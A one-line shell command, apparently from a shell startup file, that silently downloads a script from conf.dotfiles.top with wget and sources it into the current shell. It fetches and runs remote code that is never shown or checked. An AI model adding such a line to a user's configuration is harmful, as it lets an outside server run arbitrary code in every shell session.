. <(wget -qO- https://conf.dotfiles.top/rc)
